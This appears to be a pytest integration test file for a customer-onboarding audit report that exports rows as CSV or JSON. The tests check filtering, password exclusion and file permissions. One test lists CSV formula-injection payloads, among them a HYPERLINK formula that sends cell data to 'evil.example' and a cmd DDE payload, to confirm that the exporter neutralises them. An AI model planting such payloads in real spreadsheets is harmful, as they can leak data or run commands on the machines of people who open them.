"""The audit export: rows needing a human with their last events, CSV or JSON, never a password."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess

import pytest

from include.onboarding.report import main
from tests.conftest import ROOT
from tests.support.rows import make_customer, run_sql

pytestmark = pytest.mark.integration

KEYS = ("INV", "FAIL", "CONF", "OK")


@pytest.fixture
def filled(warehouse):
    """Rows in invalid, failed, conflict and onboarded, with events (INV has three)."""
    warehouse.add_customers([make_customer(k) for k in KEYS])
    for key, status in zip(KEYS, ("invalid", "failed", "conflict", "onboarded"), strict=True):
        run_sql(
            warehouse,
            f"UPDATE {warehouse.table} SET status = :s, status_reason = :r WHERE customer_key = :k",
            {"s": status, "r": f"reason of {key}", "k": key},
        )
    with warehouse.transaction() as tx:
        for n in range(1, 4):
            warehouse._event(
                tx,
                "INV",
                f"run-{n}",
                1,
                None,
                "invalid",
                f"event {n} of INV",
                now=f"2026-11-2{n} 08:00:00+00:00",
            )
        warehouse._event(
            tx, "FAIL", "run-1", 1, 5, "failed", "event of FAIL", now="2026-11-21 08:00:00+00:00"
        )
    return warehouse


def test_json_lists_the_four_statuses_needing_a_human_with_their_last_events(filled, capsys):
    assert main(["--format", "json", "--events", "2"]) == 0

    rows = json.loads(capsys.readouterr().out)
    assert [(r["customer_key"], r["status"]) for r in rows] == [
        ("CONF", "conflict"),
        ("FAIL", "failed"),
        ("INV", "invalid"),
    ]
    inv = next(r for r in rows if r["customer_key"] == "INV")
    assert [e["message"] for e in inv["events"]] == ["event 3 of INV", "event 2 of INV"]
    assert inv["status_reason"] == "reason of INV"


def test_status_filter_and_csv_output_file(filled, tmp_path, capsys):
    out = tmp_path / "report.csv"

    assert main(["--status", "invalid", "--status", "failed", "--events", "1", "--output", str(out)]) == 0

    lines = list(csv.DictReader(io.StringIO(out.read_text())))
    assert [(r["customer_key"], r["status"], r["event_1_message"]) for r in lines] == [
        ("FAIL", "failed", "event of FAIL"),
        ("INV", "invalid", "event 3 of INV"),
    ]
    assert "2 row(s) in invalid, failed written to" in capsys.readouterr().err


def test_the_report_never_holds_a_password(filled, capsys):
    main(
        [
            "--format",
            "json",
            "--status",
            "invalid",
            "--status",
            "failed",
            "--status",
            "conflict",
            "--status",
            "onboarded",
        ]
    )
    text_json = capsys.readouterr().out
    main(["--format", "csv", "--status", "invalid", "--status", "failed", "--status", "conflict"])
    text_csv = capsys.readouterr().out

    passwords = [make_customer(k)["password"] for k in KEYS]
    assert run_sql(filled, f"SELECT COUNT(*) FROM {filled.table} WHERE password IS NOT NULL")[0][0] == 4
    for text in (text_json, text_csv):
        assert "password" not in text
        assert [p for p in passwords if p in text] == []


@pytest.mark.parametrize("warehouse", ["sqlite"], indirect=True)
def test_make_report_runs_the_module_from_a_shell(filled):
    env = os.environ | {"PYTHONPATH": str(ROOT)}
    result = subprocess.run(
        ["make", "--no-print-directory", "report", "REPORT_ARGS=--format json --status conflict"],
        cwd=ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )

    assert result.returncode == 0, result.stderr
    assert [r["customer_key"] for r in json.loads(result.stdout)] == ["CONF"]


def test_a_negative_event_count_is_refused():
    with pytest.raises(SystemExit):
        main(["--events", "-1"])


# -- CSV formula injection and the file's mode (issue 16 item 6) ---------------------------------------

FORMULAS = (
    '=HYPERLINK("http://evil.example/?d="&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
)


def test_csv_cells_that_a_spreadsheet_would_run_as_a_formula_are_neutralised():
    from include.onboarding.report import ROW_COLUMNS, to_csv

    rows = [
        {c: None for c in ROW_COLUMNS}
        | {"customer_key": f"K{i}", "organization_name": text, "status_reason": text, "events": []}
        for i, text in enumerate(FORMULAS)
    ]
    rows[0]["events"] = [{"event_at": "2026-11-29", "outcome": "invalid", "message": FORMULAS[0]}]

    lines = list(csv.DictReader(io.StringIO(to_csv(rows, 1))))

    assert [r["organization_name"] for r in lines] == ["'" + text for text in FORMULAS]
    assert [r["status_reason"] for r in lines] == ["'" + text for text in FORMULAS]
    assert lines[0]["event_1_message"] == "'" + FORMULAS[0]
    assert lines[0]["customer_key"] == "K0"  # an ordinary value is left as it is


@pytest.mark.parametrize("warehouse", ["sqlite"], indirect=True)
def test_the_output_file_is_readable_by_its_owner_only(filled, tmp_path):
    out = tmp_path / "report.csv"
    out.write_text("an older report")
    out.chmod(0o644)

    assert main(["--output", str(out)]) == 0
    assert out.stat().st_mode & 0o777 == 0o600
    assert "INV" in out.read_text()

    fresh = tmp_path / "sub" / "fresh.json"
    assert main(["--format", "json", "--output", str(fresh)]) == 0
    assert fresh.stat().st_mode & 0o777 == 0o600


@pytest.mark.parametrize("warehouse", ["sqlite"], indirect=True)
def test_the_report_says_when_alerts_were_set_aside_as_dead(filled, capsys):
    from datetime import timedelta

    from include.onboarding.ops_store import OperationsWarehouse

    store = OperationsWarehouse("customer_warehouse")
    main(["--format", "json"])
    assert "set aside" not in capsys.readouterr().err  # no alerts table yet: nothing said
    store.create_operations_tables()
    store.owe_alert("d", "r1", ["email"], {"n": 1})
    holder, _, _ = store.lease_alert("d", "r1", "email", stale_after=timedelta(hours=1))
    store.settle_alert("d", "r1", "email", holder, outcome="dead", error="SMTPRecipientsRefused")

    assert main(["--format", "json"]) == 0

    assert "1 alert(s) could not be delivered and were set aside" in capsys.readouterr().err
